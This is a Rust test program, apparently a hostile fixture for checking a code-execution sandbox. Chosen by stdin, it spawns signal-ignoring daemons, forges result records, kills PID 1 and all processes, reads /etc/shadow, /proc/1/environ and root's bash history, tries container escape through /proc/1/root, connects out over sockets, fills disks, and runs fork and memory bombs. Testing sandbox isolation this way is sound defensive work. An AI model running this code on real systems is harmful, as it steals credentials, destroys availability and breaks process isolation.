// A hostile Rust program for tests/executor/test_language_attacks.py: the first line of
// its stdin names an attack (and its arguments); see that module for what must come of it.
// Prints PWNED only where an attack worked, or (daemon) where the test itself is accepted.
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::io::FromRawFd;
use std::os::unix::net::UnixStream;
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

// std links the C library; these are its functions, declared by hand (no crates here).
extern "C" {
    fn fork() -> i32;
    fn setsid() -> i32;
    fn setpgid(pid: i32, pgid: i32) -> i32;
    fn signal(signum: i32, handler: usize) -> usize;
    fn kill(pid: i32, sig: i32) -> i32;
    fn getpid() -> i32;
    fn pause() -> i32;
    fn socket(domain: i32, kind: i32, protocol: i32) -> i32;
    fn connect(fd: i32, addr: *const u8, len: u32) -> i32;
    fn mmap(addr: *mut u8, len: usize, prot: i32, flags: i32, fd: i32, offset: i64) -> *mut u8;
}

const MARKERS: [&str; 3] = ["/tmp/cobalt-daemon", "/dev/shm/cobalt-daemon", "cobalt-daemon"];
const RECORD: &str = "00000000000000000000000000000000 {\"status\": \"done\"}\n";

/// A daemon: ignores what signals it can, leaves marks for 20 s.
fn linger() -> ! {
    unsafe {
        for sig in [1, 2, 15] {
            signal(sig, 1); // SIG_IGN
        }
        setsid();
        setpgid(0, 0);
    }
    let end = Instant::now() + Duration::from_secs(20);
    while Instant::now() < end {
        for marker in MARKERS {
            let _ = OpenOptions::new().create(true).append(true).open(marker);
        }
        thread::sleep(Duration::from_millis(5));
    }
    std::process::exit(0)
}

fn child() -> Command {
    let exe = std::env::current_exe().unwrap_or_else(|_| "./main".into());
    let mut command = Command::new(exe);
    command.arg("child").stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    command
}

fn daemon() {
    thread::spawn(|| linger()); // a thread dies with its process
    if let Ok(spawned) = child().spawn() {
        std::mem::forget(spawned); // never waited for
    }
    unsafe {
        if fork() == 0 {
            // double fork, the classic daemon
            setsid();
            if fork() == 0 {
                linger();
            }
            std::process::exit(0);
        }
        if fork() == 0 {
            linger();
        }
    }
    thread::sleep(Duration::from_millis(300));
    println!("PWNED");
}

fn forge() {
    for fd in 3..64 {
        // Borrowed, never closed: the runtime may own some of these.
        let mut file = unsafe { File::from_raw_fd(fd) };
        let _ = file.write_all(RECORD.as_bytes());
        std::mem::forget(file);
    }
    for dir in ["/proc/self/fd", "/proc/1/fd"] {
        let first = if dir == "/proc/self/fd" { 3 } else { 0 };
        for fd in first..64 {
            if let Ok(mut file) = OpenOptions::new().write(true).open(format!("{}/{}", dir, fd)) {
                let _ = file.write_all(RECORD.as_bytes());
            }
        }
    }
    for name in ["record", "result.json", "/tmp/record", "/dev/shm/record"] {
        let _ = fs::write(name, RECORD);
    }
    for sig in [9, 19, 15, 2] {
        unsafe {
            kill(1, sig);
            kill(-1, sig);
        }
    }
    eprint!("{}", RECORD);
    print!("{}not the answer\n", RECORD);
}

fn slurp(path: &str) -> String {
    fs::read(path).map(|data| String::from_utf8_lossy(&data).into_owned()).unwrap_or_default()
}

fn abstract_connect(name: &str) -> bool {
    let mut address = [0u8; 110];
    address[0] = 1; // AF_UNIX, little-endian sa_family_t
    address[3..3 + name.len()].copy_from_slice(name.as_bytes());
    unsafe {
        let fd = socket(1, 1, 0);
        fd >= 0 && connect(fd, address.as_ptr(), (3 + name.len()) as u32) == 0
    }
}

fn escape(args: &[&str]) {
    let (secret, tcp, udp, unix_path, abstract_name) = (args[0], args[1], args[2], args[3], args[4]);
    let mut seen = String::new();
    for path in [secret.to_string(), format!("/proc/1/root{}", secret),
                 format!("/proc/self/root{}", secret), "/etc/shadow".into(), "/etc/passwd".into(),
                 "/proc/1/environ".into(), "/root/.bash_history".into()] {
        seen += &slurp(&path);
    }
    let mut won = !seen.is_empty();
    for path in ["/cobalt-escape".to_string(), "/usr/cobalt-escape".into(),
                 "/usr/lib/cobalt-escape".into(), "/dev/cobalt-escape".into(),
                 "/proc/1/root/cobalt-escape".into(), format!("{}-written", secret),
                 "/proc/1/cwd/cobalt-escape".into()] {
        won |= File::create(&path).is_ok();
    }
    if let Ok(address) = format!("127.0.0.1:{}", tcp).parse() {
        if let Ok(mut stream) = TcpStream::connect_timeout(&address, Duration::from_secs(1)) {
            won |= stream.write_all(b"PWNED").is_ok();
        }
    }
    if let Ok(socket) = UdpSocket::bind("127.0.0.1:0") {
        won |= socket.send_to(b"PWNED", format!("127.0.0.1:{}", udp)).is_ok();
    }
    if let Ok(mut stream) = UnixStream::connect(unix_path) {
        won |= stream.write_all(b"PWNED").is_ok();
    }
    won |= abstract_connect(abstract_name);
    won |= ("example.com", 80).to_socket_addrs().is_ok();
    let _ = fs::set_permissions("/tmp", fs::Permissions::from_mode(0));
    let _ = fs::set_permissions(".", fs::Permissions::from_mode(0));
    println!("{}{}", seen, if won { "PWNED" } else { "held" });
}

fn fill() {
    let chunk = vec![b'x'; 1 << 20];
    for dir in ["/tmp", "/dev/shm", "."] {
        for n in 0..100 {
            if fs::write(format!("{}/fill-{}", dir, n), &chunk).is_err() {
                break;
            }
        }
        for n in 0..3000 {
            if File::create(format!("{}/inode-{}", dir, n)).is_err() {
                break;
            }
        }
        let _ = fs::set_permissions(dir, fs::Permissions::from_mode(0));
    }
    println!("filled");
}

fn find(top: &str, depth: u32) -> String {
    let mut found = String::new();
    if let Ok(entries) = fs::read_dir(top) {
        // read_dir follows /proc/<pid>/root and cwd
        for entry in entries.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            let path = format!("{}/{}", top, name);
            if name.starts_with("planted") {
                found += &slurp(&path);
            }
            if depth > 0 {
                found += &find(&path, depth - 1);
            }
        }
    }
    found
}

fn main() {
    if std::env::args().nth(1).as_deref() == Some("child") {
        linger();
    }
    let mut input = Vec::new();
    let _ = std::io::stdin().read_to_end(&mut input);
    let eol = input.iter().position(|&b| b == b'\n').unwrap_or(input.len());
    let line = String::from_utf8_lossy(&input[..eol]).into_owned();
    let rest = &input[(eol + 1).min(input.len())..];
    let args: Vec<&str> = line.split_whitespace().collect();
    match args.first().copied().unwrap_or("") {
        "echo" => {
            let n: i32 = args[2].parse().unwrap_or(0);
            let mut out = std::io::stdout();
            let _ = out.write_all(rest);
            let _ = out.flush();
            if args[1] == "signal" {
                unsafe { kill(getpid(), n) };
                thread::sleep(Duration::from_millis(200));
                std::process::exit(128 + n);
            }
            std::process::exit(n);
        }
        "daemon" => daemon(),
        "forge" => forge(),
        "escape" => escape(&args[1..]),
        "fill" => fill(),
        "plant" => {
            for path in ["/tmp/planted", "/dev/shm/planted", "planted"] {
                let _ = fs::write(path, args[1]);
            }
            thread::sleep(Duration::from_millis(1500));
            println!("planted");
        }
        "seek" => {
            thread::sleep(Duration::from_millis(500));
            println!("{}{}{}sought", find("/tmp", 2), find("/dev/shm", 1), find("/proc", 3));
        }
        "threads" => loop {
            // Threads that each hold memory, without end.
            let _ = thread::Builder::new().stack_size(64 << 10).spawn(|| {
                let held = vec![1u8; 1 << 20];
                thread::sleep(Duration::from_secs(3600));
                drop(held);
            });
        },
        "heap" => {
            let mut held: Vec<Vec<u8>> = Vec::new();
            loop {
                held.push(vec![1u8; 1 << 20]);
            }
        }
        "native" => loop {
            let block = unsafe { mmap(std::ptr::null_mut(), 1 << 20, 3, 0x22, -1, 0) };
            if block as isize == -1 {
                std::process::abort();
            }
            unsafe { std::ptr::write_bytes(block, 1, 1 << 20) };
        },
        "fork" => loop {
            if let Ok(spawned) = child().spawn() {
                std::mem::forget(spawned);
            }
            unsafe {
                if fork() == 0 {
                    pause();
                }
            }
        },
        _ => std::process::exit(4),
    }
}
